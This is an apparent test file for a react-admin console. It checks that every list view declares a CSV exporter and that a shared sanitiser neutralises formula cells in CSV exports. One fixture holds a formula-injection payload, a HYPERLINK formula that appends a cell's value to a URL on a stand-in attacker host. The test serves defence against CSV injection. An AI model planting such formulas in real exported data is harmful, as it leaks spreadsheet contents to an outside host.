// Every list's CSV export neutralises formula cells (issue 13, observation 8; docs/OPERATIONS.md):
// each react-admin <List> names its exporter, and the shared one passes every cell through csvSafe.
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, test } from 'vitest';
import { csvSafeRecord } from '../../client/src/components/csvExporter.ts';

const SRC = path.resolve(import.meta.dirname, '../../client/src');
const files = (dir: string): string[] =>
  fs
    .readdirSync(dir, { withFileTypes: true })
    .flatMap((e) => (e.isDirectory() ? files(path.join(dir, e.name)) : e.name.endsWith('.tsx') ? [path.join(dir, e.name)] : []));

/** The props of the JSX element opening at `start`: up to its `>`, skipping those inside `{…}` (e.g. `aside={<Aside />}`). */
function listProps(text: string, start: number): string {
  let depth = 0;
  for (let i = start + 1; i < text.length; i++) {
    const c = text[i];
    if (c === '{') depth++;
    else if (c === '}') depth--;
    else if (c === '>' && depth === 0) return text.slice(start, i);
  }
  return text.slice(start);
}

describe('CSV exports of the console', () => {
  test('every react-admin <List> says how it exports (csvExporter, its own safe exporter, or none)', () => {
    const missing: string[] = [];
    for (const file of files(SRC)) {
      const text = fs.readFileSync(file, 'utf8');
      const ra = /import \{([^}]*)\} from 'react-admin';/.exec(text);
      if (!ra || !/\bList\b/.test(ra[1]!)) continue;
      for (const m of text.matchAll(/<List\b/g))
        if (!listProps(text, m.index).includes('exporter=')) missing.push(path.relative(SRC, file));
    }
    expect(missing).toEqual([]);
  });

  test("a record's texts are neutralised, numbers and nested values included", () => {
    expect(
      csvSafeRecord([
        { name: '=HYPERLINK("http://evil.example/?"&A1,"Click")', deltaMb: -1024, tags: ['@SUM(1,1)', 'ok'], nested: { note: '+1' } },
      ]),
    ).toEqual([
      { name: '\'=HYPERLINK("http://evil.example/?"&A1,"Click")', deltaMb: -1024, tags: ["'@SUM(1,1)", 'ok'], nested: { note: "'+1" } },
    ]);
  });
});
